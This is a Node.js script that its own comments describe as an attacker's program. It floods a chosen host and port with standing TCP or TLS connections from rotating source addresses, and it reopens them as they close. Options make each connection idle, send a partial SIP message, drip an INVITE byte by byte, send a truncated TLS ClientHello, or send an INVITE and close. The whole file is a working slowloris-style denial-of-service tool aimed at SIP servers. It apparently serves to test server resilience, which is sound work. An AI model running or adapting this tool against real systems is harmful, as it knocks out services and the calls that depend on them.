import { connect, type Socket } from "node:net";
import { connect as connectByTls } from "node:tls";
import { parseArgs } from "node:util";

// A program of the attacker's: opens connections from its addresses and leaves them, each as `--kind`
// says, again and again as they are closed. Every second it prints how many it has opened so far.

const { values } = parseArgs({
  options: {
    to: { type: "string", default: "" },
    port: { type: "string", default: "" },
    /** Comma-separated; they take turns. */
    from: { type: "string", default: "" },
    /** How many stand at once. */
    standing: { type: "string", default: "50" },
    /** The most that are opened in a second. */
    rate: { type: "string", default: "200" },
    kind: { type: "string", default: "idle" },
  },
});

const TICK_MS = 20;
const HALF_A_MESSAGE = "OPTIONS sip:nobody@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/TCP 192.0.2.2;bran";
const INVITE = [
  "INVITE sip:+33123456789@192.0.2.1 SIP/2.0",
  "Via: SIP/2.0/TCP 192.0.2.2;branch=z9hG4bKleft",
  "From: <sip:left@192.0.2.2>;tag=left",
  "To: <sip:+33123456789@192.0.2.1>",
  "Call-ID: left",
  "CSeq: 1 INVITE",
  "Contact: <sip:left@192.0.2.2>",
  "Max-Forwards: 70",
  "Content-Length: 0",
  "",
  "",
].join("\r\n");
// The beginning of a handshake record (RFC 8446 §5.1) that says more is to come than ever does.
const HALF_A_HELLO = Buffer.from("160301020001000001fc0303", "hex");

/** What is done once a connection stands, by kind. */
const ACTS: Readonly<Record<string, (socket: Socket) => void>> = {
  idle: () => {},
  "half-message": (socket) => void socket.write(HALF_A_MESSAGE),
  "slow-bytes": (socket) => {
    let at = 0;
    const drip = setInterval(() => socket.write(INVITE[at++ % INVITE.length]!), 500);
    socket.once("close", () => clearInterval(drip));
  },
  "half-handshake": (socket) => void socket.write(HALF_A_HELLO),
  "invite-and-close": (socket) => void socket.end(INVITE),
  "idle-tls": () => {},
  "invite-and-close-tls": (socket) => void socket.end(INVITE),
};

const act = ACTS[values.kind];
if (act === undefined) throw new Error(`no kind is called ${values.kind}`);
const port = Number(values.port);
const sources = values.from.split(",");
let [begun, opened, closed, standing] = [0, 0, 0, 0];

setInterval(() => {
  const most = Math.ceil((Number(values.rate) * TICK_MS) / 1000);
  for (let i = 0; i < most && standing < Number(values.standing); i++) open();
}, TICK_MS);
setInterval(() => console.log(`opened ${opened}, closed ${closed}, standing ${standing}`), 1000);

function open(): void {
  standing += 1;
  const where = { host: values.to, port, localAddress: sources[begun++ % sources.length]! };
  const isTls = values.kind.endsWith("-tls");
  const stands = (): void => {
    opened += 1;
    act!(socket);
  };
  const socket = isTls
    ? connectByTls({ ...where, rejectUnauthorized: false }, stands)
    : connect(where, stands);
  // It reads, so that it hears of the end; what a closed one complains of is expected.
  socket.resume();
  socket.on("error", () => {});
  socket.once("close", () => {
    standing -= 1;
    closed += 1;
  });
}
